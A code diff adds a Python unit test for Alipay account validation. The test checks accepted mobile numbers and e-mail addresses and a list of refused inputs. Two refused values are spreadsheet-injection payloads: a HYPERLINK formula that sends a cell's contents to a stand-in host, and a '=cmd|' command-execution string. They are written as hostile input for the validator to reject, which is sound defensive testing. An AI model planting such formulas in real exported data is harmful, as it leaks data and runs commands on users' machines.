@@ -26,6 +26,25 @@ def test_wechat_and_alipay_accounts():
     assert normalize_account("paypal", "alice@example.com") is None
 
 
+def test_an_alipay_account_is_a_mobile_number_or_a_real_e_mail_address():
+    accepted = ("13812345678", "li.na+pay@mail.example.com.cn", "w_99@qq.com")
+    assert [normalize_account("alipay", account) for account in accepted] == list(accepted)
+    refused = (
+        '=HYPERLINK("http://x.example/?"&C2&"@x.y","Pay")',
+        "=cmd|x@x.yy",
+        "a..b@example.com",
+        ".alice@example.com",
+        "alice@example",
+        "alice@-example.com",
+        "alice@example.c0m",
+        "al ice@example.com",
+        "１3812345678",  # a full-width digit
+        "23812345678",
+        "x" * 250 + "@example.com",
+    )
+    assert [account for account in refused if normalize_account("alipay", account)] == []
+
+
 def test_accounts_are_masked_to_their_last_four():
     assert mask_account("6222021234567890123") == "**** 0123"
     assert mask_account("alice@example.com") == "a***@example.com"
